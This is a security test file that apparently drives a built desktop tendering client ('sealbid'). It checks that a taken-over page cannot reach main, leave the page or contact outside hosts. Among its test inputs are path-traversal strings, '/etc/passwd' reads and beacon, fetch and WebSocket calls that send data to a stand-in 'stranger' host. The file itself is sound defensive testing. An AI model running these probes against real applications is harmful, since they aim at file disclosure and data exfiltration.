import { randomBytes } from 'node:crypto'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { bystander, type Bystander } from '../support/bystander.ts'
import { testPlatform, type TestPlatform } from '../support/platform.ts'
import { practiceFolder } from '../support/practice.ts'
import { openProgram, type Program } from '../support/window.ts'

/** What a page tries that has been taken over. Everything here runs in the built program as a user has it. */

let program: Program
let page: Page
let stranger: Bystander
let other: Bystander
let platform: TestPlatform
const folder = mkdtempSync(join(tmpdir(), 'sealbid-attacks-'))

beforeAll(async () => {
  const practice = await practiceFolder();
  [stranger, other, platform] = await Promise.all([bystander(), bystander(), testPlatform()])
  program = await openProgram({ workspace: join(folder, 'workspace'), trust: join(practice, 'trust.json'), practice, rehearsal: platform.origin, files: practice })
  page = program.page
})
beforeEach(() => { stranger.seen.length = other.seen.length = 0 })
afterAll(async () => {
  await program?.kill()
  await Promise.all([stranger?.end(), other?.end(), platform?.end()])
  rmSync(folder, { recursive: true, force: true })
})

interface Answer { ok: boolean, value?: unknown, error?: { code: string, detail?: string } }

/** Runs text in the page; a promise is waited for, an error becomes its name. */
const run = <T = unknown>(text: string, where = page): Promise<T> => where.evaluate(`(async () => (${text}))().catch((error) => error.name)`)

/** Asks main as a script of the page would. */
const ask = (verb: string, input: unknown): Promise<Answer> => run(`sealbid.${verb}(${JSON.stringify(input)})`)

const soon = (milliseconds = 400): Promise<void> => new Promise((resolve) => { setTimeout(resolve, milliseconds) })
const token = (): string => randomBytes(32).toString('base64url')
const job = '11111111-1111-4111-8111-111111111111'

describe('messages', () => {
  it('answers its own page', async () => {
    expect(await ask('app.state', {})).toMatchObject({ ok: true, value: { profile: 'practice' } })
  })

  it.each([
    ['a name too many', 'drafts.get', { draft: job, more: 1 }],
    ['another type', 'app.configure', { language: 7 }],
    ['nothing', 'drafts.get', null],
    ['a list', 'tenders.get', ['x']],
    ['a path instead of a token', 'files.inspect', { file: '/etc/passwd', job }],
  ])('refuses %s', async (_what, verb, input) => {
    expect(await ask(verb, input)).toMatchObject({ ok: false, error: { code: 'bad-input' } })
  })

  it('refuses what is too large or too deep before it looks at it', async () => {
    expect(await run<Answer>("sealbid.app.configure({ place: 'x'.repeat(3_000_000) })")).toMatchObject({ ok: false, error: { code: 'bad-input', detail: expect.stringContaining('larger than') as string } })
    expect(await run<Answer>('(() => { let deep = {}; for (let i = 0; i < 500; i++) deep = { deep }; return sealbid.app.configure(deep) })()')).toMatchObject({ ok: false, error: { code: 'bad-input' } })
  })

  it('has no way to name another channel, and no binding of the host', async () => {
    expect(await run('Object.keys(window).filter((name) => /electron|ipc|require|process|sealbidHost/i.test(name)).join()')).toBe('')
    expect(await run('typeof window.__sealbidHost')).toBe('undefined')
    expect(await run('(() => { "use strict"; window.sealbid.drafts.get = null })()')).toBe('TypeError')
    expect(await run('Object.keys(sealbid.files).join()')).toBe('choose,dropped,inspect')
  })

  it('takes no path for a dropped file', async () => {
    expect(await run<Answer>("sealbid.files.dropped({ path: '/etc/passwd' })")).toMatchObject({ ok: false })
    expect(await run<Answer>("sealbid.files.dropped('/etc/passwd')")).toMatchObject({ ok: false })
  })

  it('refuses a sub-frame that reaches the binding, loudly', async () => {
    const cdp = await program.cdp()
    const contexts = new Map<number, string>()
    cdp.on('Runtime.executionContextCreated', ({ context }) => contexts.set(context.id, (context.auxData as { frameId: string }).frameId))
    await cdp.send('Runtime.enable')
    // Both sessions get what a binding of this name is called with: this is how a broken page would reach main from a frame.
    await cdp.send('Runtime.addBinding', { name: '__sealbidHost' })
    await run("(() => { const frame = document.createElement('iframe'); frame.id = 'attack'; document.body.append(frame) })()")
    await soon()
    expect(await run("typeof document.querySelector('#attack').contentWindow.sealbid")).toBe('undefined')
    const { frameTree } = await cdp.send('Page.getFrameTree')
    const child = frameTree.childFrames?.[0]?.frame.id
    const [context] = [...contexts].findLast(([, frame]) => frame === child)!
    const inFrame = async (expression: string): Promise<unknown> => (await cdp.send('Runtime.evaluate', { expression, contextId: context, returnByValue: true })).result.value
    await cdp.send('Runtime.addBinding', { name: '__sealbidHost', executionContextId: context })
    await inFrame(`globalThis.__sealbidHostReceive = (message) => { globalThis.got = message }; __sealbidHost(JSON.stringify({ id: 1, channel: 'sealbid:verb:app.state', args: [{}] }))`)
    await soon()
    expect(await inFrame('got')).toMatchObject({ id: 1, ok: false, message: expect.stringContaining('not permitted') as string })
    expect(program.errors()).toContain("app.state: refused, not asked by the client's own page")
    await run("document.querySelector('#attack').remove()")
  })
})

describe('tokens', () => {
  it('refuses a token that nobody was given', async () => {
    expect(await ask('files.inspect', { file: token(), job })).toMatchObject({ ok: false, error: { code: 'token-unknown' } })
    expect(await run<number>(`(await fetch('/sealed/${token()}', { headers: { range: 'bytes=0-9' } })).status`)).toBeGreaterThanOrEqual(400)
    expect(await run<number>(`(await fetch('/incoming/${token()}?offset=0', { method: 'PUT', body: 'x' })).status`)).toBeGreaterThanOrEqual(400)
  })

  it('forgets what a document was given when it is gone', async () => {
    const dropped = await run<{ value: { token: string } }>("sealbid.files.dropped(new File(['%PDF-1.7'], '附件 一.pdf'))")
    const file = dropped.value.token
    expect(await ask('files.inspect', { file, job })).not.toMatchObject({ error: { code: 'token-unknown' } })
    await page.reload()
    await page.waitForFunction('typeof window.sealbid === "object"')
    expect(await ask('files.inspect', { file, job })).toMatchObject({ ok: false, error: { code: 'token-unknown' } })
  })

  it('takes a package piece by piece, and not a byte more than was announced', async () => {
    await certify(platform.origin)
    const size = 1_000
    const { value } = await ask('tenders.receive', { origin: platform.origin, tender: 'T-1', digest: 'a'.repeat(64), size }) as { value: { url: string } }
    const put = (bytes: number, offset: number): Promise<number> => run(`(await fetch('${value.url}?offset=${offset}', { method: 'PUT', body: new Uint8Array(${bytes}) })).status`)
    expect(await put(8 * 1024 * 1024 + 1, 0)).toBe(413)
    expect(await put(10, 5)).toBe(400)
    expect(await put(900, 0)).toBe(204)
    expect(await put(101, 900)).toBe(413)
    expect(await put(100, 900)).toBe(204)
  })
})

/** What renderer/connection does: lets main judge a platform. */
async function certify(origin: string): Promise<void> {
  const answer = await run(`(async () => {
    await sealbid.platforms.reach({ origin: '${origin}' })
    const descriptor = await (await fetch('${origin}/.well-known/tendering-platform')).json()
    const certification = btoa(String.fromCharCode(...new Uint8Array(await (await fetch('${origin}/v1/certification')).arrayBuffer())))
    const clock = (await (await fetch('${origin}/v1/clock')).json()).time
    return await sealbid.platforms.accept({ origin: '${origin}', descriptor, certification, clock })
  })()`)
  expect(answer).toMatchObject({ ok: true })
}

describe('leaving the page', () => {
  it.each([
    ['an address', (to: string) => `location.href = '${to}/navigate'`],
    ['a replaced address', (to: string) => `location.replace('${to}/replace')`],
    ['a link that is clicked', (to: string) => `(() => { const link = document.createElement('a'); link.href = '${to}/link'; document.body.append(link); link.click(); link.remove() })()`],
    ['a form', (to: string) => `(() => { const form = document.createElement('form'); form.action = '${to}/form'; form.method = 'post'; document.body.append(form); form.submit(); form.remove() })()`],
    ['a file', () => "location.href = 'file:///etc/passwd'"],
    ['another page of the program', () => "location.href = '/prompt/index.html'"],
    ['data', () => "location.href = 'data:text/html,<p>x'"],
  ])('goes nowhere by %s', async (_what, text) => {
    const before = page.url()
    await run(`(() => { ${text(stranger.origin)} })()`)
    await soon()
    expect(page.url()).toBe(before)
    expect(await ask('app.state', {})).toMatchObject({ ok: true })
    expect(stranger.seen).toEqual([])
  })

  it('stays where it is when a file is dropped beside its place, or somebody else navigates it', async () => {
    const before = page.url()
    const cdp = await program.cdp()
    for (const url of ['file:///etc/hosts', `${stranger.origin}/outside`]) await cdp.send('Page.navigate', { url })
    await soon()
    expect(page.url()).toBe(before)
    expect(await ask('app.state', {})).toMatchObject({ ok: true })
    expect(stranger.seen).toEqual([])
  })

  it('opens no window, not even at a click', async () => {
    const before = program.pages().length
    await run(`(() => { const button = document.createElement('button'); button.id = 'attack'; button.textContent = 'x'; button.style.cssText = 'position:fixed;inset:0;z-index:9999'; button.onclick = () => { window.open('${stranger.origin}/window'); window.open('about:blank') }; document.body.append(button) })()`)
    await page.click('#attack')
    await soon()
    await run("document.querySelector('#attack').remove()")
    expect(program.pages()).toHaveLength(before)
    expect(stranger.seen).toEqual([])
  })
})

describe('the network', () => {
  it.each([
    ['fetch', (to: string) => `fetch('${to}/fetch')`],
    ['fetch without an answer', (to: string) => `fetch('${to}/no-cors', { mode: 'no-cors' })`],
    ['a beacon', (to: string) => `navigator.sendBeacon('${to}/beacon', 'secret')`],
    ['an image', (to: string) => `(() => { new Image().src = '${to}/image' })()`],
    ['a script', (to: string) => `(() => { const script = document.createElement('script'); script.src = '${to}/script'; document.body.append(script) })()`],
    ['a style', (to: string) => `(() => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '${to}/style'; document.head.append(link) })()`],
    ['a prefetch', (to: string) => `(() => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '${to}/prefetch'; document.head.append(link) })()`],
    ['a frame', (to: string) => `(() => { const frame = document.createElement('iframe'); frame.src = '${to}/frame'; document.body.append(frame); setTimeout(() => frame.remove(), 300) })()`],
    ['a stream of events', (to: string) => `(() => { new EventSource('${to}/events').close })()`],
    ['a worker', (to: string) => `(() => { new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker')"]))) })()`],
    ['a WebSocket', (to: string) => `(() => { new WebSocket('${to.replace('http', 'ws')}/socket') })()`],
  ])('does not reach a stranger by %s', async (_what, text) => {
    await run(text(stranger.origin))
    await soon()
    expect(stranger.seen).toEqual([])
  })

  it('reaches a candidate for what makes it known, and for nothing else', async () => {
    expect(await ask('platforms.reach', { origin: stranger.origin })).toMatchObject({ ok: true })
    expect(await run(`(await fetch('${stranger.origin}/v1/clock')).status`)).toBe(200)
    expect(await run(`fetch('${stranger.origin}/v1/sessions', { method: 'POST' })`)).toBe('TypeError')
    expect(await run(`fetch('${stranger.origin}/v1/clock', { method: 'POST' })`)).toBe('TypeError')
    expect(stranger.seen).toEqual(['GET /v1/clock'])
  })

  it('does not follow a redirect to another origin', async () => {
    stranger.redirects.set('/v1/clock', `${other.origin}/v1/clock`)
    await ask('platforms.reach', { origin: stranger.origin })
    expect(await run(`fetch('${stranger.origin}/v1/clock')`)).toBe('TypeError')
    expect(stranger.seen).toEqual(['GET /v1/clock'])
    expect(other.seen).toEqual([])
  })

  it('opens no WebSocket to an origin that it may ask', async () => {
    await certify(platform.origin)
    await ask('platforms.reach', { origin: stranger.origin })
    const socket = `new Promise((resolve) => { const socket = new WebSocket('${stranger.origin.replace('http', 'ws')}/socket'); socket.onopen = () => resolve('open'); socket.onerror = () => resolve('closed') })`
    expect(await run(socket)).toBe('closed')
    expect(stranger.seen).toEqual([])
  })
})

describe('scripts and files', () => {
  it('runs no script that did not come with the program', async () => {
    await run("(() => { const script = document.createElement('script'); script.textContent = 'window.attacked = 1'; document.body.append(script) })()")
    await run("(() => { const button = document.createElement('button'); button.setAttribute('onclick', 'window.attacked = 2'); document.body.append(button); button.click(); button.remove() })()")
    await run("(() => { const script = document.createElement('script'); script.src = 'data:text/javascript,window.attacked=3'; document.body.append(script) })()")
    await soon()
    expect(await run('window.attacked ?? null')).toBeNull()
  })

  it.each(['/../../../etc/passwd', '/..%2f..%2fpackage.json', '/renderer/../../main/index.js', '/main/index.js', '/sealed/', '/sealed/a/b'])('serves nothing but its pages: %s', async (path) => {
    expect(await run<number>(`(await fetch('${path}')).status`)).toBeGreaterThanOrEqual(400)
  })
})

describe('the prompt window', () => {
  it('has one verb, no network and no way to main beside it', async () => {
    const dropped = ask('practice.import', { name: 'bidder-a' })
    const prompt = await program.prompt()
    await ask('platforms.reach', { origin: stranger.origin })
    expect(await run('typeof window.sealbid', prompt)).toBe('undefined')
    expect(await run('Object.keys(window.prompter).sort().join()', prompt)).toBe('answer,question')
    for (const text of [`fetch('${stranger.origin}/v1/clock')`, `fetch('${platform.origin}/v1/clock')`, "fetch('http://client.sealbid.localhost/renderer/index.html', { mode: 'no-cors' })"]) expect(await run(text, prompt)).toBe('TypeError')
    await run(`(() => { new WebSocket('${stranger.origin.replace('http', 'ws')}/socket'); new Image().src = '${stranger.origin}/image'; location.href = '${stranger.origin}/navigate' })()`, prompt)
    await soon()
    expect(prompt.url()).toContain('/prompt/index.html')
    expect(stranger.seen).toEqual([])
    await program.cancel()
    expect(await dropped).toMatchObject({ ok: false, error: { code: 'cancelled' } })
  })

  it('is not the client: the client cannot answer for it', async () => {
    const asked = ask('practice.import', { name: 'bidder-a' })
    const prompt = await program.prompt()
    expect(await run('typeof window.prompter')).toBe('undefined')
    expect(await run("fetch('http://prompt.sealbid.localhost/prompt/index.html', { mode: 'no-cors' })")).toBe('TypeError')
    expect(await run('prompter.answer({ confirmed: "yes" })', prompt)).toBe('Error')
    await program.cancel()
    expect(await asked).toMatchObject({ ok: false, error: { code: 'cancelled' } })
  })
})
